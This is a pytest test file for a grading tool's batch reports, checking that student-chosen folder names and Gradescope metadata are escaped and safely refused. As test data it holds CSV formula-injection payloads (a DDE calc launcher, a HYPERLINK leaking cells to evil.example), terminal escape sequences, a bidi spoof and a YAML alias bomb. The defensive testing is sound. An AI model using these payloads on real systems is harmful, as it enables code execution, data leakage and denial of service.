"""The class reports of ``python -m grading batch`` on text students chose.

Students choose their folders' names, and on Gradescope their names, SIDs
and emails: none of it may run as a spreadsheet formula, reach a terminal
as a control sequence, crash the reports (a Latin-1 folder name, a hostile
``submission_metadata.yml``) or move a mark to a classmate's gradebook row.
"""

import csv
import os
import resource
import subprocess
import sys
import unicodedata

import pytest
from _helpers import SUBPROCESS_BACKSTOP, reference_source

from grading import REPO_ROOT

CHAMFER = "test_chamfer_distance_"  # a quick selection: the marks of one function


def batch(classroom, tmp_path, *args, limit_memory=None):
    """Run ``python -m grading batch``; return (exit status, stdout, stderr, marks.csv's rows as lists).

    The output is decoded as UTF-8 with ``surrogateescape``, so that any raw
    byte the grader printed is still there to be seen.
    """
    marks = tmp_path / "marks.csv"

    def limit():
        resource.setrlimit(resource.RLIMIT_AS, (limit_memory, limit_memory))

    completed = subprocess.run(
        [sys.executable, "-m", "grading", "batch", str(classroom), "--assignment", "lecture1", "--csv", str(marks)]
        + list(args),
        cwd=REPO_ROOT,
        capture_output=True,
        timeout=SUBPROCESS_BACKSTOP,
        preexec_fn=limit if limit_memory else None,
    )
    stdout, stderr = (stream.decode("utf-8", "surrogateescape") for stream in (completed.stdout, completed.stderr))
    rows = read_csv(marks) if marks.exists() else []
    return completed.returncode, stdout, stderr, rows


def read_csv(path):
    with open(path, newline="", encoding="utf-8", errors="surrogateescape") as handle:
        return list(csv.reader(handle))


def unsafe(text):
    """The characters of ``text`` a terminal or a spreadsheet would act on: controls, formats, surrogates."""
    return [c for c in text if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")]


def loose(classroom, name, module="metrics"):
    """A submission of one loose reference module, in a folder named ``name`` (str, or bytes as on disk)."""
    folder = os.path.join(os.fsencode(classroom), os.fsencode(name))
    os.makedirs(folder)
    with open(os.path.join(folder, f"{module}.py".encode()), "w") as handle:
        handle.write(reference_source(module))
    return os.fsdecode(folder)


FORMULAS = ["=1+2", "@SUM(A1:A2)", "+cmd|' -C calc'!A0", "-2+3", "\t=tab", "\r=cr"]  # folder names: no "/"


def test_no_cell_of_marks_or_gradebook_is_a_formula(tmp_path):
    classroom = tmp_path / "class"
    for name in FORMULAS:
        (classroom / name).mkdir(parents=True)  # empty: not graded, a row all the same
    exported = classroom / "submission_1"
    exported.mkdir()
    (classroom / "submission_metadata.yml").write_text(
        "submission_1:\n  :submitters:\n"
        '  - :name: \'=HYPERLINK("http://evil.example/?"&A1, "mark")\'\n'
        "    :sid: '+1-2'\n"
        "    :email: '@evil.example'\n"
    )
    gradebook = tmp_path / "canvas.csv"
    status, stdout, stderr, rows = batch(classroom, tmp_path, "--gradebook", str(gradebook))
    assert status == 0, stdout + stderr
    book = read_csv(gradebook)
    cells = [cell for table in (rows, book) for row in table for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], (rows, book)
    names = {row[0] for row in rows[1:]}
    assert {"'=1+2", "'@SUM(A1:A2)", "'+cmd|' -C calc'!A0", "'-2+3", "\\x09=tab", "\\x0d=cr"} < names  # as text
    assert ['\'=HYPERLINK("http://evil.example/?"&A1, "mark")', "", "'+1-2", "'@evil.example", "", "0"] in book


def test_control_characters_of_folder_names_reach_neither_terminal_nor_csv(tmp_path):
    classroom = tmp_path / "class"
    hostile = [
        "esc\x1b[2J\x1b]0;owned\x07",  # clear the screen, retitle the terminal, ring the bell
        "c1\x9b31m",  # a C1 control sequence introducer
        "bidi\u202egnp.exe",  # a right-to-left override
        "fake\nalice: 17 of 17",  # a forged line of the terminal's list
    ]
    for name in hostile:
        (classroom / name).mkdir(parents=True)
    loose(classroom, "graded\x1b[8m")  # one graded, so that its results file and row go through the same path
    status, stdout, stderr, rows = batch(classroom, tmp_path, "-k", CHAMFER)
    assert status == 0, stdout + stderr
    assert not unsafe(stdout) and not unsafe(stderr), (stdout, stderr)
    assert not [line for line in stdout.splitlines() if line.startswith("alice")]  # no forged line
    assert "esc\\x1b[2J\\x1b]0;owned\\x07" in stdout and "bidi\\u202egnp.exe" in stdout
    assert not [cell for row in rows for cell in row if unsafe(cell) or "\n" in cell], rows
    by_name = {row[0]: row for row in rows[1:]}
    escaped = ["esc\\x1b[2J\\x1b]0;owned\\x07", "c1\\x9b31m", "bidi\\u202egnp.exe", "fake\\nalice: 17 of 17"]
    assert set(by_name) == {*escaped, "graded\\x1b[8m"}
    assert by_name["graded\\x1b[8m"][2] == by_name["graded\\x1b[8m"][3] != "0"  # full marks, under its escaped name


def test_latin1_and_overlong_folder_names_are_graded_and_every_row_and_the_gradebook_are_written(tmp_path):
    classroom = tmp_path / "class"
    loose(classroom, b"ana")
    loose(classroom, b"jos\xe9")  # Latin-1, not UTF-8: os.listdir gives "jos\udce9"
    loose(classroom, b"l" + b"o" * 252 + b"ng")  # a name of 255 bytes: its results file's would be longer
    loose(classroom, b"zoe")
    (classroom / "zz-empty").mkdir()
    gradebook = tmp_path / "canvas.csv"
    status, stdout, stderr, rows = batch(classroom, tmp_path, "-k", CHAMFER, "--gradebook", str(gradebook))
    assert status == 0, stdout + stderr
    assert "Traceback" not in stderr
    by_name = {row[0]: row for row in rows[1:]}
    long = "l" + "o" * 252 + "ng"
    assert set(by_name) == {"ana", "jos\\xe9", long, "zoe", "zz-empty"}
    full = by_name["ana"][3]
    assert [by_name[name][2] for name in ("ana", "jos\\xe9", long, "zoe")] == [full] * 4 and full != "0"
    assert "jos\\xe9: " in stdout
    book = read_csv(gradebook)
    assert [row[3] for row in book[2:]] == ["ana", "jos\\xe9", long, "zoe", "zz-empty"]


# Hostile metadata: each ended `batch` with a traceback or without a word; the alias bomb (576 bytes,
# merge keys of merge keys) grows the parser's tree ninefold per level, past 1 GiB.
BOMB = (
    "a0: &a0 {"
    + ", ".join(f"k{i}: lol" for i in range(9))
    + "}\n"
    + "".join(f"a{n}: &a{n} {{<<: [{', '.join([f'*a{n - 1}'] * 9)}]}}\n" for n in range(1, 8))
    + "submission_1: {<<: ["
    + ", ".join(["*a7"] * 9)
    + "]}\n"
).encode()
HOSTILE_METADATA = {
    "not a mapping": (b"- submission_1\n- submission_2\n", "not a mapping of submission folders"),
    "a record of the wrong type": (b"submission_1: [1, 2]\n", "submission_1: its record is not a mapping"),
    "submitters of the wrong type": (
        b"submission_1:\n  :submitters:\n  - :name: [a, b]\n    :sid: {x: 1}\n",
        "submission_1: a submitter's :name is not a text",
    ),
    "missing keys": (
        b"submission_1:\n  :created_at: 2027-02-01\n",
        "submission_1: its record has no list of :submitters",
    ),
    "huge values": (
        b"submission_1:\n  :submitters:\n  - :sid: " + b"9" * 5000 + b"\n",
        "submission_metadata.yml: not readable YAML",
    ),
    "huge text": (
        b"submission_1:\n  :submitters:\n  - :name: " + b"x" * 100_000 + b"\n",
        "submission_1: a submitter's :name is longer than",
    ),
    "not UTF-8": (b"submission_1:\n  :submitters:\n  - :name: Jos\xe9\n", "not UTF-8 text"),
    "deep nesting": (b"submission_1: " + b"[" * 5000 + b"]" * 5000 + b"\n", "nested more than"),
    "an alias bomb": (BOMB, "more than 100000 values (an alias counts as what it repeats)"),
    "a looping alias": (b"submission_1: &loop\n  :submitters: *loop\n", "an alias inside its own anchor"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_METADATA))
def test_hostile_metadata_is_one_line_and_the_class_is_graded_under_its_folder_names(tmp_path, case):
    data, line = HOSTILE_METADATA[case]
    classroom = tmp_path / "class"
    (classroom / "submission_1").mkdir(parents=True)  # empty: accounted for, nothing to run
    (classroom / "submission_2").mkdir()
    (classroom / "submission_metadata.yml").write_bytes(data)
    # 1 GiB of address space: far above the grader's needs here, far below the alias bomb's.
    status, stdout, stderr, rows = batch(classroom, tmp_path, "--allow-unisolated", limit_memory=1024**3)
    assert status == 0 and "Traceback" not in stderr, stdout + stderr
    assert [row[:2] for row in rows[1:]] == [["submission_1", ""], ["submission_2", ""]]
    reported = [text for text in stdout.splitlines() if line in text]
    assert len(reported) == 1 and "graded under its folder's name" in reported[0], stdout
    assert len(reported[0]) < 300


def test_the_metadata_caps_of_the_readme_hold(tmp_path):
    """8 MiB, 100,000 values, 16 levels, 320 characters a field (grading/config.py), each refused past it."""
    from grading import config
    from grading.instructors.batch import read_gradescope_metadata

    record = "submission_1:\n  :submitters:\n  - :name: {name}\n    :email: a@b.example\n"
    cases = {
        "larger than 8 MiB": (record.format(name="x") + "#" * config.METADATA_MAX_BYTES).encode(),
        "more than 100000 values": b"submission_2: [" + b"0," * config.METADATA_MAX_NODES + b"]\n",
        "nested more than 16 deep": b"submission_2: " + b"[" * 16 + b"]" * 16 + b"\n",
        "longer than 320 characters": record.format(name="x" * 321).encode(),
    }
    assert (config.METADATA_MAX_BYTES, config.METADATA_MAX_NODES, config.METADATA_MAX_DEPTH) == (8 << 20, 10**5, 16)
    path = tmp_path / "submission_metadata.yml"
    for reason, data in cases.items():
        path.write_bytes(data)
        people, problems = read_gradescope_metadata(tmp_path)
        assert len(problems) == 1 and reason in problems[0], (reason, problems)
    # Aliases that repeat little are read (Ruby's YAML writes them where an object repeats).
    path.write_text(
        "submission_1:\n  :submitters:\n  - &ada\n    :name: Ada\n    :sid: S-1\n"
        "submission_2:\n  :submitters:\n  - *ada\n"
    )
    people, problems = read_gradescope_metadata(tmp_path)
    assert people["submission_2"] == people["submission_1"] == [{"name": "Ada", "sid": "S-1", "email": ""}]
    assert problems == []
    # At the caps: read.
    path.write_bytes(record.format(name="x" * 320).encode() + b"submission_2: " + b"[" * 15 + b"]" * 15 + b"\n")
    people, problems = read_gradescope_metadata(tmp_path)
    assert people["submission_1"][0]["name"] == "x" * 320 and problems == [
        "submission_2: its record is not a mapping in submission_metadata.yml: graded under its folder's name"
    ]


# A roster of three; Mallory's Gradescope email has Bob's login.
ROSTER = (
    "Student,ID,SIS User ID,SIS Login ID,Section\n"
    "    Points Possible,,,,\n"
    "Alice,101,S-1,alice01,A\n"
    "Bob,102,S-2,bob02,A\n"
    "Mallory,103,S-3,mal03,A\n"
)
AMBIGUOUS_METADATA = """\
submission_1:
  :submitters:
  - :name: Mallory
    :sid: S-3
    :email: bob02@evil.example
submission_2:
  :submitters:
  - :name: Bob
    :sid: S-2
    :email: bob02@uni.example
submission_3:
  :submitters:
  - :name: Alice
    :sid: S-1
    :email: alice01@uni.example
"""


def test_an_ambiguous_roster_match_is_refused_and_listed_never_guessed(tmp_path):
    classroom = tmp_path / "class"
    (classroom / "submission_1").mkdir(parents=True)  # Mallory's: nothing gradable, 0
    loose(classroom, "submission_2")  # Bob's: full marks
    loose(classroom, "submission_3")  # Alice's: full marks
    (classroom / "submission_metadata.yml").write_text(AMBIGUOUS_METADATA)
    roster, gradebook = tmp_path / "export.csv", tmp_path / "canvas.csv"
    roster.write_text(ROSTER)
    status, stdout, stderr, rows = batch(
        classroom, tmp_path, "-k", CHAMFER, "--gradebook", str(gradebook), "--roster", str(roster)
    )
    assert status == 0, stdout + stderr
    full = {row[0]: row for row in rows[1:]}["submission_3"][3]
    marks = {row[3]: row[5] for row in read_csv(gradebook)[2:]}
    # Alice is unambiguous; Bob's row is claimed by two submissions, Mallory's by a refused one: no guess.
    assert marks == {"alice01": full, "bob02": "", "mal03": ""}
    refused = [line for line in stdout.splitlines() if "refused, ambiguous" in line]
    assert any(line.startswith("submission_1: ") and "2 roster rows" in line for line in refused), stdout
    assert any(line.startswith("Bob [bob02]: ") and "submission_1, submission_2" in line for line in refused), stdout


def test_gradescope_prints_a_refused_submissions_file_names_escaped(tmp_path, capsys):
    """``autograde``'s log names the files of a refused upload: escaped, as in the reports."""
    from grading.instructors.gradescope import autograde
    from grading.sandbox import isolation

    if not isolation().isolated:
        pytest.skip("autograde refuses every submission first where it cannot isolate one")
    for name in ("a\x1b]0;owned\x07", "b\u202egnp"):  # two pcl_course/ as deep: refused, both named
        (tmp_path / "submission" / name / "pcl_course").mkdir(parents=True)
    assert autograde(tmp_path, assignment="lecture1") == 0
    printed = capsys.readouterr().out
    assert "several pcl_course/ folders" in printed and not unsafe(printed), printed
    assert "a\\x1b]0;owned\\x07/pcl_course" in printed
